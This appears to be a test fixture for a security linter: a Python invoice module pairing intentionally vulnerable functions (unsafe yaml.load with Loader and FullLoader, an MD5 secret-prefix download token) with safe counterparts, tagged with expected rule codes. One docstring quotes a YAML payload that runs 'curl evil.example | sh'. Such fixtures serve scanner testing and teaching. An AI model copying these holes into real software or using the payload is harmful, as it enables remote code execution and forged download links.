"""Invoice documents: tenant layouts (YAML) and signed download links."""
import hashlib
import hmac
import os

import yaml

# --- Layouts -------------------------------------------------------------------------------------
# A layout says which logo, colours and columns an invoice uses. Tenants upload their own as YAML;
# the service ships defaults in LAYOUT_DIR.


def load_layout(stream) -> dict:
    """Vulnerable: the full Loader builds any Python object a document names, so an upload containing
    ``!!python/object/apply:os.system ["curl evil.example | sh"]`` runs a command."""
    return yaml.load(stream, Loader=yaml.Loader)  # expect: K715


def load_layout_safe(stream) -> dict:
    """Safe: mappings, lists, strings and numbers are all a layout needs."""
    return yaml.safe_load(stream)  # ok: K201, K715


def load_default_layout(layout_dir: str, name: str) -> dict:
    """Vulnerable: FullLoader still constructs Python objects (CVE-2020-14343 in PyYAML < 5.4)."""
    with open(os.path.join(layout_dir, f"{name}.yaml"), encoding="utf-8") as fh:
        return yaml.load(fh, Loader=yaml.FullLoader)  # expect: K201


def load_default_layout_safe(layout_dir: str, name: str) -> dict:
    with open(os.path.join(layout_dir, f"{name}.yaml"), encoding="utf-8") as fh:
        return yaml.load(fh, Loader=yaml.SafeLoader)  # ok: K201


# --- Download links ------------------------------------------------------------------------------
# /invoices/<id>/download?token=... lets a customer fetch a PDF without logging in.


def download_token(invoice_id: int, secret: str) -> str:
    """Vulnerable: MD5(secret + id) is a home-made MAC: MD5 is broken and fast to brute-force, and the
    secret-prefix construction is open to length extension."""
    return hashlib.md5(f"{secret}:{invoice_id}".encode()).hexdigest()  # expect: K301


def download_token_safe(invoice_id: int, secret: str) -> str:
    """Safe: HMAC-SHA-256, the construction made for this job."""
    return hmac.new(secret.encode(), str(invoice_id).encode(), hashlib.sha256).hexdigest()  # ok: K301


def check_download_token(invoice_id: int, secret: str, token: str) -> bool:
    return hmac.compare_digest(download_token_safe(invoice_id, secret), token)


def pdf_etag(pdf_bytes: bytes) -> str:
    """A cache validator, not a security control: MD5 is fine here, and the call says so."""
    return hashlib.md5(pdf_bytes, usedforsecurity=False).hexdigest()  # ok: K301
